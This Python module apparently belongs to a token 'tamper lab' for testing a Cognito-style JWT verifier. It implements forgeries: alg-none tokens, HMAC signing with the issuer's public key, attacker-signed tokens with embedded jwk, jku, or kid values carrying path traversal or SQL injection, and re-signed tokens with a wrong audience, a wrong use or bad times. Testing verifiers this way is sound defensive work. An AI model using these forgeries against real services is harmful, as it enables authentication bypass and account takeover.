"""What the attacks of the tamper lab do: pure functions from a token taken apart to a forged one.

Each works with what a real attacker has: any token, the issuer's public key, a key and an issuer of one's own. Those that
take a `signer` stand for tokens that the issuer itself signed, for somebody else or for another time.
"""

from __future__ import annotations

import hmac
from collections.abc import Callable
from typing import Any

import msgspec

from cogtui.cloud.errors import AuthoringError
from cogtui.cloud.tokens.attacker import JKU, KID, KID_PATH, KID_SQL, attacker_key, own_issuer
from cogtui.cloud.tokens.keys import RSA_ALGORITHMS, Algorithm, Jwk, SigningKey, public_jwk
from cogtui.cloud.tokens.mint import mint
from cogtui.cloud.tokens.segments import octets, segment_of, text_of

OTHER_AUDIENCE = "somebody-elses-app"
"""The audience of a token that was made for an app which this world does not know."""

LATER = 300
"""Seconds by which a token comes too early."""


class Opened(msgspec.Struct, frozen=True):
    """A token taken apart for tampering."""

    header: dict[str, Any]
    claims: dict[str, Any]
    texts: tuple[str, str, str]
    """Header, payload and signature as they stand in the token."""

    @property
    def header_text(self) -> str:
        """The header's segment."""
        return self.texts[0]

    @property
    def payload_text(self) -> str:
        """The payload's segment."""
        return self.texts[1]

    @property
    def signature_text(self) -> str:
        """The signature's segment."""
        return self.texts[2]


Forge = Callable[..., str]

# --- without any key --------------------------------------------------------------------------------------------------


def _with_claims(token: Opened, claims: dict[str, Any]) -> str:
    return f"{token.header_text}.{segment_of(claims)}.{token.signature_text}"


def change_claim(token: Opened, *, claim: str, value: Any) -> str:
    """Write another value into the payload."""
    return _with_claims(token, {**token.claims, claim: value})


def remove_claim(token: Opened, *, claim: str) -> str:
    """Take a claim out of the payload."""
    return _with_claims(token, {name: value for name, value in token.claims.items() if name != claim})


def duplicate_claim(token: Opened, *, claim: str, value: Any) -> str:
    """Append the claim once more to the JSON text, whether it is there or not."""
    payload = octets(token.payload_text).rstrip().removesuffix(b"}")
    comma = b"," if token.claims else b""
    payload += comma + msgspec.json.encode({claim: value})[1:]
    return f"{token.header_text}.{text_of(payload)}.{token.signature_text}"


def flip_signature(token: Opened) -> str:
    """Turn one bit in the middle of the signature."""
    signature = bytearray(octets(token.signature_text) or b"\0")
    signature[len(signature) // 2] ^= 1
    return f"{token.header_text}.{token.payload_text}.{text_of(bytes(signature))}"


def strip_signature(token: Opened) -> str:
    """Leave the third part empty."""
    return f"{token.header_text}.{token.payload_text}."


def unsigned(spelling: str) -> Forge:
    """Make a forger that says `alg` none, in this spelling."""

    def forged(token: Opened) -> str:
        return f"{segment_of({**token.header, 'alg': spelling})}.{token.payload_text}."

    return forged


def hs_with_public_key(token: Opened, *, key: Jwk) -> str:
    """Make an HMAC whose secret is the issuer's public key, as PEM text."""
    from cogtui.cloud.tokens import signatures

    signed = f"{segment_of({**token.header, 'alg': 'HS256'})}.{token.payload_text}"
    return f"{signed}.{text_of(hmac.digest(signatures.pem(key.n, key.e), signed.encode(), 'sha256'))}"


# --- with a key of one's own ------------------------------------------------------------------------------------------


def _alg(token: Opened) -> Algorithm:
    """Return the token's algorithm where it is one of RSA's, else the commonest."""
    named = token.header.get("alg")
    for alg in RSA_ALGORITHMS:
        if named == alg:
            return alg
    return "RS256"


def _signed_by_attacker(token: Opened, **header: Any) -> str:
    key = attacker_key(_alg(token))
    return mint(token.claims, key, {**token.header, "alg": key.alg, **header})


def other_key(token: Opened) -> str:
    """Sign with the attacker's key, and leave the header as it was."""
    return _signed_by_attacker(token)


def embedded_key(token: Opened) -> str:
    """Sign with the attacker's key and bring its public side along."""
    return _signed_by_attacker(token, jwk=msgspec.to_builtins(public_jwk(attacker_key(_alg(token)))))


def key_address(token: Opened) -> str:
    """Sign with the attacker's key and say where its public side is to be had."""
    return _signed_by_attacker(token, jku=JKU)


def other_kid(token: Opened) -> str:
    """Sign with the attacker's key and name it."""
    return _signed_by_attacker(token, kid=KID)


def kid_path(token: Opened) -> str:
    """Sign with the attacker's key; `kid` leads out of the folder of keys, to a file of the attacker's."""
    return _signed_by_attacker(token, kid=KID_PATH)


def kid_sql(token: Opened) -> str:
    """Sign with the attacker's key; `kid` goes on with the SQL statement that looks the key up."""
    return _signed_by_attacker(token, kid=KID_SQL)


def other_issuer(token: Opened, *, other: SigningKey | None = None) -> str:
    """Let another issuer sign the same claims in its own name: a user pool of this world, or one that the attacker runs."""
    key = other or attacker_key("RS256", own_issuer(str(token.claims.get("iss", ""))))
    header = {**token.header, "kid": key.kid, "alg": key.alg}
    return mint({**token.claims, "iss": key.issuer}, key, header)


# --- with the issuer's own signature ----------------------------------------------------------------------------------


def _signed_for_real(token: Opened, signer: SigningKey, claims: dict[str, Any], **header: Any) -> str:
    return mint(claims, signer, {**token.header, "kid": signer.kid, "alg": signer.alg, **header})


def other_audience(token: Opened, *, signer: SigningKey, audience: str = OTHER_AUDIENCE) -> str:
    """Return the token that the same issuer would make for another app."""
    name = "client_id" if "client_id" in token.claims else "aud"
    return _signed_for_real(token, signer, {**token.claims, name: audience})


_TO_ACCESS = {"aud": "client_id", "cognito:username": "username"}
_TO_ID = {new: old for old, new in _TO_ACCESS.items()}
_USES = {"id": ("access", _TO_ACCESS), "access": ("id", _TO_ID)}
_OF_ONE_USE = frozenset(
    {"scope", "version", "at_hash", "nonce", "cognito:roles", "cognito:preferred_role", "identities"}
)
"""Claims that only one of the two has; an access token has no attributes either, which does not matter here."""


def other_use(token: Opened, *, signer: SigningKey) -> str:
    """Return the access token to an ID token, and the other way round: the same user, client and times."""
    use = token.claims.get("token_use")
    if not isinstance(use, str) or use not in _USES:
        raise AuthoringError("only a user pool's ID or access token has a `token_use` that could be the wrong one")
    wanted, names = _USES[use]
    kept = {names.get(name, name): value for name, value in token.claims.items() if name not in _OF_ONE_USE}
    scope = {"scope": "aws.cognito.signin.user.admin"} if wanted == "access" else {}
    return _signed_for_real(token, signer, {**kept, **scope, "token_use": wanted})


def expired(token: Opened, *, signer: SigningKey, now: float) -> str:
    """Return the same token from earlier: its end was a second ago."""
    ends = token.claims.get("exp")
    shift = int(now) - 1 - (int(ends) if isinstance(ends, int | float) else int(now) - 1)
    moved = {name: value + shift for name, value in token.claims.items() if name in _CLOCKED and _is_time(value)}
    return _signed_for_real(token, signer, {**token.claims, **moved, "exp": int(now) - 1})


_CLOCKED = frozenset({"iat", "auth_time", "nbf"})


def _is_time(value: Any) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


def not_yet(token: Opened, *, signer: SigningKey, now: float) -> str:
    """Return the token with a beginning that is still to come."""
    return _signed_for_real(token, signer, {**token.claims, "nbf": int(now) + LATER})


def from_the_future(token: Opened, *, signer: SigningKey, now: float) -> str:
    """Return the token as an issuer makes it whose clock is ahead."""
    return _signed_for_real(token, signer, {**token.claims, "iat": int(now) + LATER})


def critical(token: Opened, *, signer: SigningKey) -> str:
    """Return the token with an extension that whoever does not understand it must refuse (RFC 7515, section 4.1.11)."""
    return _signed_for_real(token, signer, token.claims, crit=["once"], once=True)
